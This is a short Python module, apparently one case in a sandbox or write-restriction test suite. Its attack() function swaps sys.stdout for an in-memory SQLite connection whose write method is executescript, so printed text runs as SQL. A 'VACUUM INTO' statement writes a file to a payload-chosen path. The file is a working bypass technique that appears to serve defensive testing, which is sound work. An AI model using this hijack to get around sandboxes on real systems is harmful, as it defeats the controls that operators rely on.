"""A database as sys.stdout, which executes what it is to write."""
CATEGORY = "deferred"
REACH = "write"
NEEDS = ("sqlite3",)

import sqlite3
import sys

from . import payload


class Connection(sqlite3.Connection):
    flush = staticmethod(int)


TARGET = f"VACUUM INTO '{payload.TARGET}'"


def attack():
    sys.stdout = Connection(":memory:")
    sys.stdout.write = sys.stdout.executescript
